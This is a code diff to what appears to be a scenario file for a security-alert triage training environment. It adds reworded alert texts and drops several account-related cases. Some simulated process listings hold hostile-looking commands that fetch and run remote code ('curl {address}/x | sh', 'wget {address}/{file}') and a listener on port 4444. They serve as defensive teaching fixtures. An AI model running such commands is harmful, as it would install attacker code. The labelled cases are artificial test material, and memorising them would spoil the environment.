@@ -1,4 +1,4 @@
-"""More cases to learn from: servers, services, and accounts that do not act where the alert was raised."""
+"""More cases to learn from: servers and their services."""
 
 from verigym.environments.triage.world import Case, Ending
 
@@ -6,7 +6,12 @@ CASES = (
     Case(
         "web_shell",
         "Web server starts a shell",
-        "The web server on {host} started a command shell; the request came from {address}.",
+        (
+            "The web server on {host} started a command shell; the request came from {address}.",
+            "{host}: the process that serves web pages became the parent of a shell, on a request of {address}.",
+            "A visitor at {address} made the web server of {host} run a shell.",
+            "Web log and process log of {host} agree: request of {address}, then sh.",
+        ),
         (
             Ending(
                 "exploited_server",
@@ -28,67 +33,21 @@ CASES = (
         server=True,
     ),
     Case(
-        "database_dump",
-        "Whole table read",
-        "The account {user} read all customers from the database on {host}.",
-        (
-            Ending(
-                "data_theft",
-                {
-                    "user": (
-                        "Has no need of that table. Saved it to a USB stick at {time} and wrote in chat that a "
-                        "buyer for it had been found."
-                    )
-                },
-            ),
-            Ending(
-                "planned_change",
-                {
-                    "change": (
-                        "{change} {host} {start}-{end}: customers moved to the new system, all tables read, by {user}"
-                    )
-                },
-            ),
-        ),
-        server=True,
-    ),
-    Case(
         "build_miner",
-        "Build server busy at night",
-        "{host} is at full load, and no build is queued.",
+        "Build server busy without a build",
+        (
+            "{host} is at full load, and no build is queued.",
+            "The queue is empty, yet every core of {host} is at work.",
+            "{host} builds nothing at the moment. Its load says otherwise: 100 %.",
+            "Why is {host} running hot with no build waiting? Please look into it.",
+        ),
         (
             Ending(
                 "mining", {"processes": "agent\n  bash -c 'curl {address}/x | sh'\n    {file} -o stratum --donate 1"}
             ),
             Ending(
                 "planned_change",
-                {"change": "{change} {host} {start}-{end}: all packages compiled anew outside the queue, by {user}"},
-            ),
-        ),
-        server=True,
-    ),
-    Case(
-        "new_admin",
-        "New administrator",
-        "{user} made the account {user2} an administrator on {host}.",
-        (
-            Ending(
-                "stolen_account",
-                {
-                    "user": (
-                        "The session came from {address} with a stolen token; {user} was on a flight without "
-                        "network at {time}."
-                    )
-                },
-            ),
-            Ending(
-                "planned_change",
-                {
-                    "change": (
-                        "{change} {host} {start}-{end}: {user2} takes over as administrator, by {user}, agreed "
-                        "by {boss}"
-                    )
-                },
+                {"change": ("{change} {host} {start}-{end}: all packages compiled anew outside the queue, by {user}")},
             ),
         ),
         server=True,
@@ -96,15 +55,20 @@ CASES = (
     Case(
         "sideways",
         "Sign-in between computers",
-        "{host2} opened an administrative session on {host}.",
+        (
+            "{host2} opened an administrative session on {host}.",
+            "{host} let in an administrator who came from {host2}.",
+            "Session with full rights: source {host2}, target {host}.",
+            "From {host2} somebody is at work on {host} with administrator rights.",
+        ),
         (
             Ending(
                 "malware",
                 {
                     "processes host2": (
                         "services.exe\n"
-                        "  {file}.exe, unsigned, holds a stolen token and tries one host after the other, led by "
-                        "{address}"
+                        "  {file}.exe, unsigned, holds a stolen token and tries one host after the other, led "
+                        "by {address}"
                     )
                 },
                 where="host2",
@@ -123,12 +87,19 @@ CASES = (
     Case(
         "logs_cleared",
         "Logs were cleared",
-        "The security log of {host} was cleared by {user}.",
+        (
+            "The security log of {host} was cleared by {user}.",
+            "{user} emptied the security log on {host}.",
+            "The security log of {host} starts anew: what was there is gone. Account: {user}.",
+            "Event 1102 on {host}, raised by {user}: audit log empty.",
+        ),
         (
             Ending(
                 "exploited_server",
                 {
-                    "processes": "sshd, session from {address}\n  bash\n    wevt --clear\n    {file}, listens on port 4444"
+                    "processes": (
+                        "sshd, session from {address}\n  bash\n    wevt --clear\n    {file}, listens on port 4444"
+                    )
                 },
             ),
             Ending(
@@ -140,20 +111,27 @@ CASES = (
     Case(
         "scan_from_outside",
         "Attack patterns in requests",
-        "{count}00 requests with attack patterns reached {host} from {address}.",
+        (
+            "{count}00 requests with attack patterns reached {host} from {address}.",
+            "{address} throws everything at {host}: {count}00 requests that look like attacks.",
+            "Web filter of {host}: {count}00 hits on attack signatures, one source, {address}.",
+            "{host} is being tried out by {address}; we count {count}00 suspicious requests.",
+        ),
         (
             Ending(
                 "exploited_server",
                 {
-                    "processes": "java\n  one request got through: sh -c 'wget {address}/{file}'\n    {file}, runs as root"
+                    "processes": (
+                        "java\n  one request got through: sh -c 'wget {address}/{file}'\n    {file}, runs as root"
+                    )
                 },
             ),
             Ending(
                 "authorised_test",
                 {
                     "address": (
-                        "our tester's: registered with us for the test of {host}, ordered by {boss}, from {last} "
-                        "until {next}"
+                        "our tester's: registered with us for the test of {host}, ordered by {boss}, from "
+                        "{last} until {next}"
                     )
                 },
             ),
@@ -163,7 +141,12 @@ CASES = (
     Case(
         "shared_folder",
         "Files on a share are encrypted",
-        "Files of the share on {host} get the ending .enc; the writer is {host2}, account {user}.",
+        (
+            "Files of the share on {host} get the ending .enc; the writer is {host2}, account {user}.",
+            "{host2} rewrites files on the share of {host} so that they end in .enc. Signed in is {user}.",
+            "The share of {host} fills with .enc files. They are written by {user} from {host2}.",
+            "{user}, working on {host2}, turns one document after the other on {host} into .enc files.",
+        ),
         (
             Ending(
                 "ransomware",
@@ -187,64 +170,14 @@ CASES = (
         server=True,
     ),
     Case(
-        "shared_account",
-        "Files copied by a shared session",
-        "{count}00 drawings were copied from {host} in the session of {user}.",
-        (
-            Ending(
-                "data_theft",
-                {
-                    "user": (
-                        "Badge: in the canteen from {before}. The desk was left unlocked, next to that of {user2}."
-                    ),
-                    "user user2": (
-                        "Sat at the desk of {user} at {time}, as the camera shows, and put the drawings on a stick."
-                    ),
-                },
-                who="user2",
-            ),
-            Ending(
-                "user_mistake",
-                {
-                    "user": (
-                        "Dragged the wrong folder onto the desktop, saw it, deleted the copy, and reported it at "
-                        "{time}."
-                    )
-                },
-            ),
-        ),
-        server=True,
-    ),
-    Case(
-        "api_key",
-        "Key used from a new place",
-        "The access key of {user} was used from {address} to list all machines.",
-        (
-            Ending(
-                "stolen_account",
-                {
-                    "user": (
-                        "The key was published by accident in a public repository at {before}; {user} works in "
-                        "{city} and was in a meeting."
-                    )
-                },
-            ),
-            Ending(
-                "known_software",
-                {
-                    "address": (
-                        "our own inventory service, rented from a cloud; it lists all machines every hour with "
-                        "such keys"
-                    )
-                },
-            ),
-        ),
-        server=True,
-    ),
-    Case(
         "root_login",
         "Direct sign-in as root",
-        "Somebody signed in as root on {host} from {address}.",
+        (
+            "Somebody signed in as root on {host} from {address}.",
+            "{host} has a root session, opened from {address}.",
+            "Sign-in as root, which we do not do, on {host}; the other end is {address}.",
+            "Root is on {host}. The connection comes from {address}.",
+        ),
         (
             Ending(
                 "exploited_server",
@@ -269,7 +202,12 @@ CASES = (
     Case(
         "backup_traffic",
         "Unusual outgoing traffic",
-        "{host} sent {count} GB to {address} since {before}.",
+        (
+            "{host} sent {count} GB to {address} since {before}.",
+            "Since {before} {count} GB have left {host} for {address}.",
+            "{address} got {count} GB from {host}. It began at {before}.",
+            "Traffic out of {host}, counted from {before}: {count} GB, one receiver, {address}.",
+        ),
         (
             Ending(
                 "exploited_server",
@@ -290,7 +228,12 @@ CASES = (
     Case(
         "switched_off_guard",
         "Virus scanner switched off",
-        "The virus scanner on {host} was switched off by {user}.",
+        (
+            "The virus scanner on {host} was switched off by {user}.",
+            "{host} is without protection: {user} stopped the virus scanner.",
+            "Virus scanner off. Server {host}, account {user}.",
+            "Somebody used the account {user} to end the virus scanner of {host}.",
+        ),
         (
             Ending(
                 "malware",
@@ -309,30 +252,14 @@ CASES = (
         server=True,
     ),
     Case(
-        "service_account",
-        "Service account signs in by hand",
-        "The account {user} of a service signed in to {host} with a keyboard.",
-        (
-            Ending(
-                "stolen_account",
-                {
-                    "user": (
-                        "Account of a service, nobody may use it by hand. The password was in a letter leaked on "
-                        "{last}; the session came from {address}."
-                    )
-                },
-            ),
-            Ending(
-                "planned_change",
-                {"change": "{change} {host} {start}-{end}: service set up by hand as {user}, by {user2}"},
-            ),
-        ),
-        server=True,
-    ),
-    Case(
         "old_hole",
         "Known hole was tried",
-        "A request from {address} to {host} tries a hole known since {old}.",
+        (
+            "A request from {address} to {host} tries a hole known since {old}.",
+            "{host} got a request made for a hole published on {old}; sender {address}.",
+            "Somebody at {address} is trying last season's exploit (out since {old}) on {host}.",
+            "Signature match on {host}: attack on a hole that is public since {old}. Source {address}.",
+        ),
         (
             Ending(
                 "exploited_server",
@@ -351,7 +278,12 @@ CASES = (
     Case(
         "scheduled_job",
         "New scheduled job",
-        'A job that starts "{file}" every minute was added on {host}.',
+        (
+            'A job that starts "{file}" every minute was added on {host}.',
+            "{host} will now start {file} once a minute: new line in the job table.",
+            'Job table of {host}: "* * * * * {file}" was not there an hour ago.',
+            "Every minute {host} runs {file}; nobody told us about that job.",
+        ),
         (
             Ending(
                 "mining",
@@ -369,29 +301,14 @@ CASES = (
         server=True,
     ),
     Case(
-        "password_spray",
-        "One password tried on many accounts",
-        "From {address} one password was tried on {count} accounts; only that of {user} opened.",
-        (
-            Ending(
-                "stolen_account",
-                {
-                    "user": (
-                        "Still had the first password of the day it was hired. The session from {address} set up "
-                        "forwarding of all mail."
-                    )
-                },
-            ),
-            Ending(
-                "authorised_test",
-                {"address": "our auditor's: password check of all accounts, ordered by {boss}, ends on {next}"},
-            ),
-        ),
-    ),
-    Case(
         "print_server",
         "Print server talks to the internet",
-        "{host} opened a connection to {address} for the first time.",
+        (
+            "{host} opened a connection to {address} for the first time.",
+            "Until today {host} never spoke to anybody outside. Now it does: {address}.",
+            "New peer for {host}: {address}.",
+            "{host} prints for the whole house. Now it has a connection to {address}, which is not in our list.",
+        ),
         (
             Ending(
                 "malware",
